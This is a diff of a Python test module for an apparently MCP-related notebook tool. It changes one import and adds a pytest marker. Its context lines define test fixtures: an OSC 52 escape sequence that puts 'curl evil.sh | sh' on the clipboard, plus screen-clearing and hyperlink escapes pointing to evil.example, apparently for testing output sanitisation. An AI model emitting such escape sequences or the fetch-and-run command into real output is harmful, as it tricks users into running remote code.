@@ -14,11 +14,13 @@ from collections.abc import Iterator
 from typing import Any
 
 import pytest
-from conftest import sdk_server_cmd, server_everything_cmd
+from support.servers import sdk_server_cmd, server_everything_cmd
 
 import mcp_notebook
 from mcp_notebook.api.cassettes.comparison import Ignore
 from mcp_notebook.api.tools.view import ToolView
+
+pytestmark = [pytest.mark.node]
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: put "curl evil.sh | sh" on the clipboard
 HOSTILE = f"before{CLIPBOARD}\x1b[2J\x1bc\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\after"
